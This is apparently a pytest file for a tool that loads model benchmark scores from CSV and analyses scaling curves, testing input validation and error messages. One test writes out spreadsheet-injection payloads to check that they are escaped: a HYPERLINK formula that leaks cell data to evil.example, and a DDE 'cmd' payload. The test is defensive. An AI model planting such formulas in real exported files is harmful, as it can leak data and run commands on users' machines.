"""Bad input gets a clear message naming file, row and column; nothing else is lost."""
import pandas as pd
import pytest

from analysis.curves import build_curves
from analysis.loading import parse_size, read_scores, with_axis
from analysis.pipeline import analyse_dataset
from analysis.settings import Settings

GOOD = "m1,F,1B,bench,task,acc,0.5,fraction,100,0.25\n"


@pytest.mark.parametrize("text,value", [
    ("7000000000", 7e9), ("7e9", 7e9), ("7B", 7e9), ("125M", 1.25e8), ("1.3T", 1.3e12),
    ("70m", 7e7), ("2.7b", 2.7e9), (" 350M ", 3.5e8), ("1.5k", 1500.0),
    ("13 billion", 1.3e10), ("1,300,000,000", 1.3e9), ("1.3bn", 1.3e9), ("175 Billion", 1.75e11),
])
def test_parse_size_accepts_numbers_and_suffixes(text, value):
    assert parse_size(text) == pytest.approx(value)


@pytest.mark.parametrize("text", ["seven", "7X", "", "1e", "B7", "1,3B", "12,34", "7e9 billion"])
def test_parse_size_rejects_garbage(text):
    with pytest.raises(ValueError):
        parse_size(text)


def _messages(path):
    return [str(p) for p in read_scores(path, label="data/x.csv").problems]


@pytest.mark.parametrize("row,expected", [
    ("m2,F,2B,bench,task,acc,abc,fraction,100,0.25", 'data/x.csv row 3: score "abc" is not a number'),
    ("m2,F,2B,bench,task,acc,,fraction,100,0.25", "data/x.csv row 3: score is blank"),
    ("m2,F,,bench,task,acc,0.5,fraction,100,0.25", "data/x.csv row 3: params is blank; give the parameter count"),
    ("m2,F,0,bench,task,acc,0.5,fraction,100,0.25", "data/x.csv row 3: params is 0; sizes must be positive"),
    ("m2,F,big,bench,task,acc,0.5,fraction,100,0.25",
     'data/x.csv row 3: params "big" is not a size; write e.g. 7000000000, 7e9 or 7B'),
    ("m2,F,2B,bench,task,acc,0.5,ratio,100,0.25",
     'data/x.csv row 3: unit "ratio" is not one of fraction, percent, raw'),
    ("m2,F,2B,bench,task,acc,57,fraction,100,0.25",
     "data/x.csv row 3: score 57 is outside 0-1 for unit fraction; if it is a percentage, set unit to percent"),
    ("m2,F,2B,bench,task,acc,157,percent,100,25", "data/x.csv row 3: score 157 is outside 0-100 for unit percent"),
    ("m2,F,2B,bench,task,acc,0.5,fraction,0,0.25", 'data/x.csv row 3: n_items "0" is not a whole number ≥ 1'),
    ("m2,F,2B,bench,task,acc,0.5,fraction,12.5,0.25", 'data/x.csv row 3: n_items "12.5" is not a whole number ≥ 1'),
    ("m2,F,2B,bench,task,acc,0.5,fraction,100,2", "data/x.csv row 3: chance 2 is outside 0-1 for unit fraction"),
    (",F,2B,bench,task,acc,0.5,fraction,100,0.25", "data/x.csv row 3: model is blank"),
    ("m2,,2B,bench,task,acc,0.5,fraction,100,0.25", "data/x.csv row 3: family is blank"),
])
def test_bad_row_is_named_and_only_it_is_set_aside(write_csv, row, expected):
    from tests.conftest import HEADER
    path = write_csv(HEADER + GOOD + row + "\n" + GOOD.replace("m1", "m3"))
    loaded = read_scores(path, label="data/x.csv")
    msgs = [str(p) for p in loaded.problems]
    assert any(m.startswith(expected) for m in msgs), msgs
    assert len(loaded.points) == 2                      # the other rows survive
    assert set(loaded.points["model"]) == {"m1", "m3"}
    assert all(p.row == 3 for p in loaded.problems)


def test_optional_columns_checked(write_csv):
    path = write_csv("""
        model,family,params,benchmark,task,metric,score,shots,higher_is_better,stderr,tokens
        m1,F,1B,b,t,acc,0.5,five,true,0.01,1T
        m2,F,2B,b,t,acc,0.5,5,maybe,0.01,1T
        m3,F,3B,b,t,acc,0.5,5,true,-1,1T
        m4,F,4B,b,t,acc,0.5,5,true,0.01,lots
    """)
    msgs = _messages(path)
    assert 'data/x.csv row 2: shots "five" is not a whole number from 0 to 100,000 (leave blank if not stated)' in msgs
    assert 'data/x.csv row 3: higher_is_better "maybe" is not true or false' in msgs
    assert 'data/x.csv row 4: stderr "-1" is not a number ≥ 0' in msgs
    assert 'data/x.csv row 5: tokens "lots" is not a size; write e.g. 7000000000, 7e9 or 7B' in msgs


def test_missing_required_column_rejects_file_with_fix(write_csv):
    path = write_csv("model,family,benchmark,task,metric,score\nm,F,b,t,acc,0.5\n")
    loaded = read_scores(path, label="data/x.csv")
    assert loaded.points.empty
    assert str(loaded.problems[0]).startswith(
        "data/x.csv row 1: missing required column(s) params; the header must name model, family, params")


def test_unreadable_file_is_one_problem_not_a_crash(write_csv, tmp_path):
    path = tmp_path / "bin.csv"
    path.write_bytes(b"\xff\xfe\x00\x81garbage\x00\x00")
    loaded = read_scores(path, label="data/bin.csv")
    assert loaded.points.empty
    assert str(loaded.problems[0]) == "data/bin.csv: is UTF-16 text (Excel's \"Unicode text\"): save it as CSV UTF-8"
    path.write_bytes(b"model,family\x00\x81garbage\x00\x00")
    assert str(read_scores(path, label="data/bin.csv").problems[0]) == \
        "data/bin.csv: is binary, not text: save it as CSV UTF-8 (comma-separated)"


def test_percent_is_normalised_and_direction_kept(write_csv):
    path = write_csv("""
        model,family,params,benchmark,task,metric,score,unit,higher_is_better,chance
        a,F,1B,b,t,acc,40,percent,,25
        b,F,2B,b,t,ppl,12.5,raw,false,
    """)
    pts = read_scores(path).points
    assert pts["score"].tolist() == pytest.approx([0.40, 12.5])
    assert pts["chance"].iloc[0] == pytest.approx(0.25)
    assert pts["higher_is_better"].tolist() == [True, False]


def test_blank_axis_value_is_a_problem(write_csv):
    path = write_csv("""
        model,family,params,tokens,benchmark,task,metric,score
        a,F,1B,1T,b,t,acc,0.4
        b,F,2B,,b,t,acc,0.5
    """)
    loaded = read_scores(path, label="data/x.csv")
    pts, problems = with_axis(loaded.points, "tokens", "data/x.csv")
    assert len(pts) == 1
    assert str(problems[0]) == ("data/x.csv row 3: tokens is blank but the x axis is tokens; "
                                "fill in tokens (training tokens) or analyse this dataset on params")


def test_compute_falls_back_to_6nd(write_csv):
    path = write_csv("""
        model,family,params,tokens,benchmark,task,metric,score
        a,F,1B,1T,b,t,acc,0.4
    """)
    pts, problems = with_axis(read_scores(path).points, "compute", "x")
    assert not problems
    assert pts["scale"].iloc[0] == pytest.approx(6e21)


def test_curve_with_mixed_units_is_rejected_with_reason(write_csv):
    path = write_csv("""
        model,family,params,benchmark,task,metric,score,unit
        a,F,1B,b,t,acc,0.4,fraction
        b,F,2B,b,t,acc,50,percent
        c,G,2B,b,t,acc,0.5,fraction
    """)
    pts, _ = with_axis(read_scores(path).points, "params", "data/x.csv")
    curves, kept, problems = build_curves(pts, "data/x.csv")
    assert len(curves) == 1 and curves["family"].iloc[0] == "G"
    assert [str(p) for p in problems][0].startswith(
        "data/x.csv row 2: unit differs between rows of one curve (fraction, percent)")


def test_every_problem_reaches_the_dataset_result(write_csv):
    path = write_csv("""
        model,family,params,benchmark,task,metric,score
        a,F,1B,b,t,acc,0.4
        b,F,2B,b,t,acc,oops
        c,F,,b,t,acc,0.5
    """)
    res = analyse_dataset(path, Settings(bootstrap=10), label="data/x.csv")
    set_aside = res.problems[~res.problems["kept"].astype(bool)]
    assert sorted(set_aside["row"].tolist()) == [3, 4]
    # and the one note that keeps its row: benchmark "b" is not in the benchmark catalogue
    assert res.problems.loc[res.problems["kept"].astype(bool), "message"].str.contains("catalogue").all()
    assert len(res.points) == 1
    assert res.curves["n_scales"].tolist() == [1]


def test_formula_cells_are_neutralised_in_every_results_table(tmp_path):
    """Issue 13: a family or source that a spreadsheet would run (=, +, -, @, tab, CR) is written with
    a leading quote in the results CSVs (OWASP); numbers, and other text, are written as they are."""
    from analysis.pipeline import analyse_dataset, run_combine
    from analysis.schema import spreadsheet_safe
    from analysis.settings import Settings
    frame = pd.DataFrame({"family": ["=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "@SUM(A1)", "GPT-3", "-x"],
                          "score": [-0.5, 0.2, 0.3, 0.4]})
    safe = spreadsheet_safe(frame)
    assert list(safe["family"]) == ["'=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "'@SUM(A1)", "GPT-3", "'-x"]
    assert list(safe["score"]) == [-0.5, 0.2, 0.3, 0.4]
    rows = pd.DataFrame({"model": [f"m{i}" for i in range(4)], "family": "=cmd|' /C calc'!A0",
                         "params": [1e8, 1e9, 1e10, 1e11], "benchmark": "b", "task": "t", "metric": "acc",
                         "score": [0.3, 0.4, 0.5, 0.6], "n_items": 500, "chance": 0.25, "source": "+evil"})
    (tmp_path / "d.csv").write_text(rows.to_csv(index=False))
    s = Settings(bootstrap=20)
    analyse_dataset(tmp_path / "d.csv", s).write(tmp_path / "res")
    outputs = {n: tmp_path / "out" / f"{n}.csv" for n in
               ("curves", "fits", "points", "problems", "mirage", "cot_gain", "compositional")}
    run_combine([str(tmp_path / "res")], outputs, s)
    for name in ("curves", "fits", "points"):
        text = outputs[name].read_text()
        assert "\n=cmd" not in text and ",=cmd" not in text and ",+evil" not in text, name
        assert "'=cmd" in text, name


def test_a_header_only_file_is_a_problem_not_a_crash(tmp_path):
    """Issue 13, 1: a CSV with the header and no rows costs only itself, with a message."""
    path = tmp_path / "empty.csv"
    path.write_text("model,family,params,benchmark,task,metric,score,n_items,chance\n")
    result = analyse_dataset(path, Settings())
    assert len(result.curves) == 0
    assert "has a header but no rows" in result.problems["message"].iloc[0]


def test_names_are_drawn_as_written_never_as_mathtext():
    """Issue 13, 4: a task named "$^$" crashed the figures step (matplotlib mathtext)."""
    import io

    from analysis.plots import capability_map_figure
    emergent = pd.DataFrame({"label": ["emergent"], "x_axis": ["params"], "emergence_scale": [1e10],
                             "emergence_scale_low": [1e9], "emergence_scale_high": [1e11], "family": ["F"],
                             "benchmark": ["b"], "task": ["$^$"], "metric": ["acc"]})
    buf = io.BytesIO()
    capability_map_figure(emergent, "params").savefig(buf, format="png")
    assert buf.tell() > 0


def test_a_misspelt_column_is_reported_with_the_nearest_name(tmp_path):
    """Issue 13, 6: `higher_is_beter` was ignored silently and an error rate became an inverse curve."""
    path = tmp_path / "d.csv"
    path.write_text("model,family,params,benchmark,task,metric,score,higher_is_beter\n"
                    "m1,F,1B,b,t,error_rate,0.5,false\n")
    loaded = read_scores(path)
    [p] = [p for p in loaded.problems if p.column == "higher_is_beter"]
    assert p.row == 1 and 'did you mean "higher_is_better"' in p.message
    assert len(loaded.points) == 1                      # the row itself is kept


def test_a_bar_in_names_does_not_merge_curves(tmp_path):
    """Issue 13, 9: family "X|Y" on benchmark "Z" and family "X" on benchmark "Y|Z" are two curves."""
    rows = [f"m{i},X|Y,{s},Z,t,acc,0.{i + 3},fraction,100,0.25" for i, s in enumerate(["1B", "2B", "4B", "8B", "16B"])]
    rows += [f"n{i},X,{s},Y|Z,t,acc,0.{i + 3},fraction,100,0.25" for i, s in enumerate(["1B", "2B", "4B", "8B", "16B"])]
    path = tmp_path / "d.csv"
    path.write_text("model,family,params,benchmark,task,metric,score,unit,n_items,chance\n" + "\n".join(rows) + "\n")
    curves = analyse_dataset(path, Settings(bootstrap=20)).curves
    assert len(curves) == 2 and set(curves["n_points"]) == {5}


def test_scores_that_do_not_fit_their_unit_or_chance_are_said_once_per_curve(tmp_path):
    """Issue 13, 7: fractions in a percent file, a curve below chance, and a chance written as a
    fraction in a percent file are warned of (rows kept), with the likely fix."""
    head = "model,family,params,benchmark,task,metric,score,unit,chance\n"
    sizes = ["1B", "2B", "4B"]
    rows = [f"m{i},F,{s},b,frac,acc,{v},percent,25" for i, (s, v) in enumerate(zip(sizes, [0.3, 0.4, 0.5]))]
    rows += [f"n{i},F,{s},b,coin,acc,{v},percent,0.5" for i, (s, v) in enumerate(zip(sizes, [50, 55, 80]))]
    path = tmp_path / "d.csv"
    path.write_text(head + "\n".join(rows) + "\n")
    loaded = read_scores(path)
    messages = [p.message for p in loaded.problems]
    assert any("at most 1 while unit is percent" in m and "set unit to fraction" in m for m in messages)
    assert any("below its chance level" in m for m in messages)
    assert any("chance 0.5 in a percent file reads as 0.5 %" in m and "(50 if you meant" in m for m in messages)
    assert len(loaded.points) == 6 and len(messages) == 3


def test_a_table_in_percent_without_a_unit_is_read_as_percent_and_said(tmp_path):
    """A paper's table copied without a unit column (0.5, 0.8, 2.4, 8.2, 14.3 %): every score of that
    metric is read as percent, said once; read as fractions, three rows were set aside and 0.5 and 0.8
    kept as 50 % and 80 %. One slip among fractions, and a perplexity, are not read so."""
    head = "model,family,params,benchmark,task,metric,score\n"
    sizes = ["422M", "2B", "8B", "68B", "137B"]
    rows = [f"m{i},L,{s},GSM8K,gsm8k,accuracy,{v}" for i, (s, v) in enumerate(zip(sizes, [0.5, 0.8, 2.4, 8.2, 14.3]))]
    rows += [f"m{i},L,{s},MMLU,mmlu,acc,{v}" for i, (s, v) in enumerate(zip(sizes, [0.30, 0.35, 41, 0.47, 0.52]))]
    rows += [f"m{i},L,{s},Pile,pile,perplexity,{v}" for i, (s, v) in enumerate(zip(sizes, [30, 21, 15, 11, 9]))]
    path = tmp_path / "d.csv"
    path.write_text(head + "\n".join(rows) + "\n")
    loaded = read_scores(path)
    gsm = loaded.points[loaded.points["task"] == "gsm8k"]
    assert gsm["score"].tolist() == pytest.approx([0.005, 0.008, 0.024, 0.082, 0.143])
    assert set(gsm["unit"]) == {"percent"}
    [said] = [p for p in loaded.problems if p.column == "unit"]
    assert said.kept and said.row == 2
    assert "metric \"accuracy\" (0.5 to 14.3) run past 1: read as percent" in said.message
    mmlu = loaded.points[loaded.points["task"] == "mmlu"]
    assert mmlu["score"].tolist() == [0.30, 0.35, 0.47, 0.52] and set(mmlu["unit"]) == {"fraction"}
    refused = {p.row: p.message for p in loaded.problems if not p.kept}
    assert "set unit to percent" in refused[9]
    assert len(refused) == 6 and all("set unit to raw" in refused[r] for r in range(12, 17))


def test_a_score_printed_with_its_percent_sign_is_read_as_percent(tmp_path):
    """`24.9%` was "not a number"; blank unit: percent; unit fraction: set aside with the fix."""
    head = "model,family,params,benchmark,task,metric,score,unit,chance\n"
    rows = ["a,F,125M,b,t,acc,24.9%,,25%", "b,F,350M,b,t,acc,25.3%,,25%", "c,F,1.3B,b,t,acc,31 %,,25%",
            "d,F,2.7B,b,u,acc,31%,fraction,0.25"]
    path = tmp_path / "d.csv"
    path.write_text(head + "\n".join(rows) + "\n")
    loaded = read_scores(path)
    assert loaded.points["score"].tolist() == pytest.approx([0.249, 0.253, 0.31])
    assert loaded.points["chance"].tolist() == pytest.approx([0.25] * 3) and set(loaded.points["unit"]) == {"percent"}
    [refused] = [p for p in loaded.problems if not p.kept]
    assert refused.row == 5 and refused.column == "unit" and 'percent sign (score "31%")' in refused.message


def test_duplicate_rows_are_counted_once_and_conflicts_are_said(tmp_path):
    """Issue 13, 8: rows pasted twice counted as replicates (p 0.055 became 0.012); an exact copy is
    now set aside with a message, two different scores for one model and task are both kept and said."""
    head = "model,family,params,benchmark,task,metric,score,n_items,chance\n"
    rows = ["m1,F,1B,b,t,acc,0.30,100,0.25", "m2,F,2B,b,t,acc,0.35,100,0.25", "m1,F,1B,b,t,acc,0.30,100,0.25",
            "m2,F,2B,b,t,acc,0.45,100,0.25"]
    path = tmp_path / "d.csv"
    path.write_text(head + "\n".join(rows) + "\n")
    loaded = read_scores(path)
    assert len(loaded.points) == 3
    [dup] = [p for p in loaded.problems if "exact duplicate" in p.message]
    assert dup.row == 4 and "row 2" in dup.message and not dup.kept
    [conflict] = [p for p in loaded.problems if "another score" in p.message]
    assert conflict.row == 5 and "row 3" in conflict.message and conflict.kept
